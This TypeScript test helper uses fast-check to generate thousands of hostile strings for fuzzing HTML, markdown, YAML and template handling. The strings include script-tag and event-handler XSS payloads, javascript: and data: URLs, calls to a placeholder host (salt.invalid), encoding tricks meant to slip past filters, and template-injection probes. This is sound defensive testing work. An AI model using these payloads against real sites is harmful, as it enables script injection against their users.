import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'

const LISTED = join(import.meta.dirname, 'listed')
const one = <T>(...values: T[]): fc.Arbitrary<T> => fc.constantFrom(...values)
const joined = (...parts: fc.Arbitrary<string>[]): fc.Arbitrary<string> =>
  fc.tuple(...parts).map((texts) => texts.join(''))

/** What runs, shows or asks for something where text became code. `__x` is looked for on each page. */
const CODE = one(
  'window.__x=1',
  'alert(1)',
  'print()',
  "fetch('//salt.invalid/')",
  "new Image().src='//salt.invalid/'",
  "import('//salt.invalid/x.js')",
  "[]['constructor']['constructor']('window.__x=1')()",
  "setTimeout('window.__x=1')",
  'throw onerror=alert,1',
  'window[`__x`]=1',
)

/** What ends the place where a text may stand: an attribute, a comment, an element whose text is not markup. */
const BREAKS = one(
  ...[
    '',
    '',
    '',
    '"',
    "'",
    '`',
    '">',
    "'>",
    '`>',
    '"/>',
    "'/>",
    '>',
    '-->',
    '--!>',
    ']]>',
    '*/',
    ';',
    '\\">',
  ],
  ...[
    'title',
    'textarea',
    'script',
    'style',
    'noscript',
    'template',
    'xmp',
    'iframe',
    'select',
    'svg',
    'p',
  ].map((name) => `</${name}>`),
)

const BETWEEN = one(' ', ' ', '/', '\t', '\n', '\f', '\r\n', ' / ', '//', '\u00a0', '\u000b')
const QUOTED = (code: fc.Arbitrary<string>) =>
  fc.tuple(one('"', "'", '', '`'), code).map(([mark, text]) => mark + text + mark)

const ELEMENT = fc.oneof(
  joined(
    one('<script>', '<SCRIPT>', '<script\t>', '<script/x>', '<svg><script>', '<script type=module>'),
    CODE,
    one('</script>', '</script', '<!--', ''),
  ),
  joined(
    one(
      ...[
        '<img',
        '<svg',
        '<body',
        '<video',
        '<audio',
        '<details open',
        '<input autofocus',
        '<iframe',
        '<object',
      ],
      ...[
        '<marquee',
        '<select autofocus',
        '<math',
        '<style',
        '<link rel=stylesheet',
        '<a',
        '<button',
        '<x',
        '<IMG',
      ],
      ...[
        '<svg><animate',
        '<svg><set',
        '<form',
        '<embed',
        '<video><source',
        '<isindex',
        '<keygen',
        '</p',
        '<bgsound',
      ],
    ),
    BETWEEN,
    one('', 'src=x ', 'href=x ', 'src=//salt.invalid/x ', 'style=animation-name:x ', 'tabindex=1 ', 'id=x '),
    one(
      ...['onerror=', 'onload=', 'onfocus=', 'ontoggle=', 'onmouseover=', 'onclick=', 'onbegin=', 'onstart='],
      ...[
        'ONERROR=',
        'onpageshow=',
        'onanimationstart=',
        'onpointerenter=',
        'formaction=javascript:',
        'srcdoc=',
      ],
      ...[
        'xlink:href=javascript:',
        'href=javascript:',
        'src=javascript:',
        'data=javascript:',
        'onerror\n=\n',
      ],
    ),
    QUOTED(CODE),
    one('>', '/>', ' ', '>x', '//', '<'),
  ),
)

/** Ways to write the same characters so that a careless filter passes them over. */
const REWRITE: fc.Arbitrary<(text: string) => string> = one(
  (text: string) => text,
  (text: string) => text,
  (text: string) => text,
  (text: string) => text.replace(/[<>"'&]/g, (char) => `&#${char.charCodeAt(0)};`),
  (text: string) => text.replace(/[<>"'&]/g, (char) => `&#x${char.charCodeAt(0).toString(16)}`),
  (text: string) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text: string) => text.replace(/[<>"' ]/g, (char) => `%${char.charCodeAt(0).toString(16)}`),
  (text: string) => text.replace(/[<>]/g, (char) => `\\u00${char.charCodeAt(0).toString(16)}`),
  (text: string) => text.replace(/[<>]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
  (text: string) => text.replace(/[a-z]/g, (char, at) => (at % 2 ? char.toUpperCase() : char)),
  (text: string) => text.replace(/[<s]/g, '$&\u0000'),
  (text: string) => text.replace(/[<i]/g, '$&\u200b'),
  (text: string) => text.replace(/[<r]/g, '$&\u00ad'),
  (text: string) => text.replace(/</g, '<\u0001'),
  (text: string) => text.replace(/</g, '<<'),
  (text: string) => `${text}${text}`,
  (text: string) => [...text].join('\u0301'),
  (text: string) => `\u202e${text}\u202c`,
)

const SCRIPTS = fc
  .tuple(BREAKS, ELEMENT, REWRITE, one('', '', '', '<!--', ' x', '"', "'"))
  .map(([before, element, rewrite, after]) => rewrite(before + element + after))

const ADDRESS = joined(
  one('', '', ' ', '\u0001', '&#1;', '\t', '&Tab;', '/', '\\', '%09', '\u200b', 'x:', 'view-source:'),
  one(
    ...[
      'javascript:',
      'JaVaScRiPt:',
      'java\tscript:',
      'java\nscript:',
      'javascript&colon;',
      '&#106;avascript:',
    ],
    ...[
      'javascript\u0000:',
      'jav&#x09;ascript:',
      'vbscript:',
      'data:text/html,',
      'data:text/html;base64,',
      'file:',
    ],
    ...[
      '//salt.invalid/',
      '\\\\salt.invalid\\',
      'https:salt.invalid',
      'https://a@salt.invalid/',
      'blob:',
      'feed:',
    ],
    ...['https://salt.invalid/', 'http://salt.invalid:80/', 'mailto:', 'mailto:desk@salt.invalid', 'tel:'],
  ),
  fc.oneof(
    CODE,
    one('', '<script>window.__x=1</script>', '"onclick="window.__x=1', '//%0awindow.__x=1', 'a b', '`'),
  ),
)
const LINKS = fc
  .tuple(ADDRESS, one('a', '*a*', '![a](b)', '<b>', 'javascript:', ''), fc.nat(9))
  .map(
    ([address, text, form]) =>
      [
        `[${text}](${address})`,
        `[${text}](<${address}>)`,
        `[${text}](${address} "${text}")`,
        `![${text}](${address})`,
        `<${address}>`,
        `[${text}]: ${address}`,
        `[a]: <${address}> '${text}'`,
        `[![${text}](${address})](${address})`,
        address,
        `<a href="${address}">${text}</a>`,
      ][form] as string,
  )

const MARK = one(
  ...'\\`*_{}[]()#+-.!|<>~^=:&"\'$%@/?;,',
  '```',
  '~~~',
  '---',
  '===',
  '1.',
  '1)',
  '[^1]',
  '](',
  '![',
  '  ',
  '**',
  '__',
  '~~',
  '&amp;',
  '&#42;',
  '</',
  '<!',
  '-->',
  '\\\\',
  '|--|',
  '- [ ]',
)
const WORD = one(
  'salt',
  'Quay',
  'a',
  'B',
  '1',
  '12',
  'é',
  '소금',
  'соль',
  'ملح',
  '🧂',
  'http://salt.example',
  'x@salt.example',
)
const MARKS = fc
  .array(fc.oneof(MARK, WORD, one(' ', ' ', '')), { minLength: 2, maxLength: 9 })
  .map((parts) => parts.join(''))

const YAML = joined(
  one(
    '',
    '',
    '- ',
    '? ',
    ': ',
    '&a ',
    '*a ',
    '!a ',
    '!!js/function ',
    '<<: ',
    '# ',
    '"',
    "'",
    '[',
    '{',
    '| ',
    '> ',
    '%',
    '@',
    '`',
    '\t',
    '---\n',
    '...\n',
    '--- ',
  ),
  fc.oneof(
    WORD,
    one('~', 'null', 'yes', 'No', '12:30', '010', '0x1F', '1e3', '.inf', '2024-02-30', '=', '<<', ''),
  ),
  one(
    '',
    ': ',
    ':',
    ' #',
    '#',
    ', ',
    '"',
    "'",
    ']',
    '}',
    '\n---\n',
    '\n...\n',
    '\n- ',
    '\n  ',
    ' : ',
    '\\',
    '\\x41',
    '\\n',
    '\t',
  ),
  fc.oneof(WORD, one('', '~', '*a', '&b', '"', "''", '{{ 1 }}', '|', '>-')),
)

const EXPRESSION = one(
  '7*7',
  'digest',
  'process.env',
  'this.constructor',
  "'<b>'|safe",
  'include x',
  'raw',
  'end',
  '#if x',
  '/if',
  '> x',
  '! x',
  '...x',
  '',
)
const TEMPLATES = fc
  .tuple(
    one(
      ['{{', '}}'],
      ['{{{', '}}}'],
      ['{%', '%}'],
      ['{%-', '-%}'],
      ['{#', '#}'],
      ['<%', '%>'],
      ['<%=', '%>'],
      ['<%-', '-%>'],
      ['${', '}'],
      ['#{', '}'],
      ['@{', '}'],
      ['[[', ']]'],
      ['{', '}'],
      ['<?=', '?>'],
      ['$(', ')'],
      ['{{', ''],
      ['', '%}'],
    ),
    EXPRESSION,
    one('', ' ', '\n'),
    WORD,
  )
  .map(([[open = '', close = ''], text, space, word]) => word + open + space + text + space + close)

const CHARACTERS = fc
  .array(
    one(
      ...'aB <>&"\'',
      ...[
        '\u0000',
        '\u0001',
        '\u0008',
        '\u000b',
        '\u000c',
        '\u001b[31m',
        '\u007f',
        '\u0085',
        '\u009b',
        '\r',
        '\r\n',
        '\n',
        '\t',
      ],
      ...[
        '\ud800',
        '\udc00',
        '\udbff',
        '\udfff\ud800',
        '\ud83e\uddc2',
        '\ufffe',
        '\uffff',
        '\ufdd0',
        '\u{1fffe}',
        '\ufffd',
      ],
      ...[
        '\u202a',
        '\u202b',
        '\u202c',
        '\u202d',
        '\u202e',
        '\u2066',
        '\u2067',
        '\u2068',
        '\u2069',
        '\u200e',
        '\u200f',
        '\u061c',
      ],
      ...[
        '\u00ad',
        '\u200b',
        '\u200c',
        '\u200d',
        '\u2060',
        '\ufeff',
        '\u034f',
        '\u180e',
        '\u3164',
        '\u115f',
        '\ufe0f',
        '\u{e0061}',
        '\u{e007f}',
      ],
      ...[
        '\u00a0',
        '\u1680',
        '\u2003',
        '\u2028',
        '\u2029',
        '\u202f',
        '\u205f',
        '\u3000',
        '\ufff9',
        '\ufffb',
        '\u{f0000}',
      ],
      ...[
        'e\u0301',
        'é',
        '\u0301\u0302\u0303',
        'a\u0301\u0323\u0328',
        '\u{1d54f}',
        '한',
        '\u1112\u1161\u11ab',
        'שלום',
        'مرحبا',
        'ﬁ',
        'İ',
        'ß',
        '\u{1f468}\u200d\u{1f469}',
      ],
      ...[
        '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
        '\u{1f1f0}\u{1f1f5}',
        'Раруа',
        '\u2100',
        '\u212a',
        '＜script＞',
        '\u2215',
        '\ufe64',
      ],
    ),
    { minLength: 2, maxLength: 8 },
  )
  .map((parts) => parts.join(''))

const LONG = [
  'a',
  '<',
  '&',
  '\\',
  '*',
  '[',
  '(',
  '`',
  '"',
  '_a',
  '<b>',
  '&amp;',
  '\u0301',
  '\u{1f9c2}',
  '](',
  '- ',
].map((part) => part.repeat(Math.ceil(1500 / part.length)))

const KINDS: [arbitrary: fc.Arbitrary<string>, count: number][] = [
  [SCRIPTS, 2200],
  [LINKS, 1000],
  [MARKS, 1100],
  [YAML, 500],
  [TEMPLATES, 400],
  [CHARACTERS, 800],
]

/**
 * Every hostile string, each once and always in the same order: those made by grammar, those listed here by hand, and
 * those of the text files, one string a line, below the folder that `HOSTILE_LISTS` names.
 */
export function hostileStrings(): string[] {
  const made = KINDS.flatMap(([arbitrary, numRuns], at) => fc.sample(arbitrary, { numRuns, seed: 100 + at }))
  const further = process.env.HOSTILE_LISTS
  const listed = [LISTED, ...(further ? [further] : [])].flatMap(linesBelow)
  return [...new Set([...listed, ...made, ...LONG])].filter((text) => text.trim() !== '')
}

function linesBelow(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ parentPath, name }) => join(parentPath, name))
    .sort()
    .flatMap((path) => readFileSync(path, 'utf8').split('\n'))
}
